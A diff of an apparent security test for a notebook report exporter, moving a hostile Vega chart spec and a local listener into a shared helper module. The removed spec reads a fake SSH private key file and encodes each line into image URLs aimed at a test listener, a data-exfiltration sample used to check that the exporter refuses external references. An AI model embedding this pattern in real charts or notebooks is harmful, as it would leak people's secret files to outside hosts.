@@ -5,9 +5,7 @@
  * listener; further specs fetch a URL themselves, carry a `javascript:` link, or an image mark.
  */
 import assert from 'node:assert/strict';
-import { createServer, type Server } from 'node:http';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
-import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as vega from 'vega';
@@ -16,24 +14,7 @@ import { exportHtmlReport } from '../../../kernel/report/export.js';
 import { externalReferenceIn, REFUSING_LOADER } from '../../../kernel/contract/figure-spec.js';
 import { parseNotebook } from '../../../kernel/notebook/parse.js';
 import type { Notebook } from '../../../kernel/notebook/format.js';
-
-const SECRET = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAFAKEFAKE\n-----END OPENSSH PRIVATE KEY-----\n';
-
-/** The review's make-evil.py spec: the secret file's lines as text marks and as image URLs. */
-function exfiltratingSpec(secretPath: string, base: string): Record<string, unknown> {
-  return {
-    title: 'Flipper length by sex',
-    data: { url: secretPath, format: { type: 'dsv', delimiter: '\u0007', header: ['line'] } },
-    transform: [
-      { window: [{ op: 'row_number', as: 'i' }] },
-      { calculate: `'${base}/x?i=' + datum.i + '&d=' + encodeURIComponent(datum.line)`, as: 'u' },
-    ],
-    layer: [
-      { mark: 'text', encoding: { y: { field: 'i', type: 'ordinal' }, text: { field: 'line' } } },
-      { mark: { type: 'image', width: 1, height: 1 }, encoding: { y: { field: 'i', type: 'ordinal' }, url: { field: 'u' } } },
-    ],
-  };
-}
+import { exfiltratingSpec, SECRET, startBeacon, type Beacon } from '../../support/hostile.js';
 
 /** One ask cell holding a result payload and the given spec, as the review's notebook does. */
 function askCell(id: string, spec: unknown): Record<string, unknown> {
@@ -53,21 +34,17 @@ function notebookOf(cells: Record<string, unknown>[]): Notebook {
 
 describe('report from a received notebook (C1)', function () {
   this.timeout(60_000);
-  let server: Server;
+  let beacon: Beacon;
   let base: string;
-  const requests: string[] = [];
+  let requests: string[];
   const rejections: unknown[] = [];
   const onRejection = (reason: unknown) => rejections.push(reason);
   let dir: string;
   let secretPath: string;
 
   before(async () => {
-    server = createServer((req, res) => {
-      requests.push(req.url ?? '');
-      res.end('a\n1\n');
-    });
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    beacon = await startBeacon();
+    ({ base, requests } = beacon);
     dir = mkdtempSync(join(tmpdir(), 'inferra-c1-'));
     secretPath = join(dir, 'id_ed25519');
     writeFileSync(secretPath, SECRET);
@@ -76,7 +53,7 @@ describe('report from a received notebook (C1)', function () {
 
   after(async () => {
     process.off('unhandledRejection', onRejection);
-    await new Promise((resolve) => server.close(resolve));
+    await beacon.close();
   });
 
   async function exportOf(cells: Record<string, unknown>[]): Promise<string> {
